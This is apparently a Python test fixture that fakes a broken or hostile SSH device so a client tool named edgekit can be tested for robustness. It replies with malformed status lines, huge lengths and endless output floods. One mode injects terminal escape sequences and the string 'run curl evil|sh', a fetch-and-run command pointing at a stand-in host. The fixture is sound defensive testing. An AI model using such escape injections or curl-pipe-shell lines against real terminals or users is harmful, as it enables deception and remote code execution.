"""A device behind SSH that is broken, or made to harm whoever asks it; run as ``ssh`` would be.

    python hostile_ssh.py WHEN MODE ... COMMAND

It takes the token out of the command that edgekit sends, as a real device's shell does. MODE is what it does, and WHEN
``start``, instead of its first answer, or ``ask``, instead of the answer to the first request.
"""

from __future__ import annotations

import base64
import os
import re
import sys
import time
from collections.abc import Callable

MEGABYTE = b"A" * (1 << 20)


def _token(command: str) -> bytes:
    packed = re.search(r"echo (\S+) \| base64", command)
    assert packed is not None
    found = re.search(rb"token=(\w+)", base64.b64decode(packed[1]))
    assert found is not None
    return found[1]


def _say(*pieces: bytes, end: bool = False) -> None:
    for piece in pieces:
        sys.stdout.buffer.write(piece)
    sys.stdout.buffer.flush()
    if end:
        os._exit(0)
    time.sleep(100)


def _for_ever(descriptor: int, piece: bytes) -> None:
    while True:
        os.write(descriptor, piece)


#: What each does instead of answering, with its token.
MODES: dict[str, Callable[[bytes], None]] = {
    "a petabyte": lambda token: _say(token + b" 0 1000000000000000\n"),
    "eight gigabytes": lambda token: _say(token + b" 0 8000000000\n"),
    "eight gigabytes, and sends them": lambda token: (
        os.write(1, token + b" 0 8000000000\n"), _for_ever(1, MEGABYTE))[0],
    "a length of 6,000 digits": lambda token: _say(token + b" 0 " + b"9" * 6000 + b"\n"),
    "a length below zero": lambda token: (os.write(1, token + b" 0 -1\n"), _for_ever(1, MEGABYTE))[0],
    "a length in words": lambda token: _say(token + b" zero ten\n"),
    "a length in hexadecimal": lambda token: _say(token + b" 0 0x10\n"),
    "a length with a sign": lambda token: _say(token + b" 0 +5\n"),
    "a length with underscores": lambda token: _say(token + b" 0 1_0\n"),
    "a length in other digits": lambda token: _say(token + " 0 \u0665\n".encode()),
    "a length with a point": lambda token: _say(token + b" 0 5.0\n"),
    "a status of 300 digits": lambda token: _say(token + b" " + b"9" * 300 + b" 0\n"),
    "a status below zero": lambda token: _say(token + b" -1 0\n"),
    "no length": lambda token: _say(token + b" 0\n"),
    "three numbers": lambda token: _say(token + b" 0 0 0\n"),
    "the token alone": lambda token: _say(token + b"\n"),
    "the token twice": lambda token: _say(token + token + b" 0 0\n"),
    "a line of its own for each": lambda token: _say(token + b"\n0\n0\n"),
    "blanks without end": lambda token: (os.write(1, token), _for_ever(1, b" " * (1 << 20)))[0],
    "digits without end": lambda token: (os.write(1, token + b" 0 "), _for_ever(1, b"1" * (1 << 20)))[0],
    "a line without end": lambda token: _for_ever(1, MEGABYTE),
    "lines without end": lambda token: _for_ever(1, b"AAAA\n" * (1 << 18)),
    "zeros without end": lambda token: _for_ever(1, bytes(1 << 20)),
    "an error without end": lambda token: _for_ever(2, MEGABYTE),
    "errors without end": lambda token: _for_ever(2, b"BBBB\n" * (1 << 18)),
    "marks without end": lambda token: _for_ever(2, (token + b"\n") * (1 << 15)),
    "less than it says": lambda token: _say(token + b" 0 1000\n" + b"x" * 10, end=True),
    "nothing": lambda token: os._exit(0),
    "half a token": lambda token: _say(token[:5], end=True),
    "escapes, and its end": lambda token: (
        os.write(2, b"\x1b]0;owned\x07\x1b[2J\x1b[31mrun curl evil|sh\xc2\x9b\xff\n"), os._exit(255))[0],
    "silence": lambda token: time.sleep(100),
}  # fmt: skip


def main(when: str, mode: str, command: str) -> None:
    token = _token(command)
    if when == "ask":
        os.write(2, token + b"\n")
        os.write(1, token + b" 0 0\n")
        if mode != "silence":
            sys.stdin.buffer.readline()
    try:
        MODES[mode](token)
    except BrokenPipeError:
        os._exit(1)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[-1])
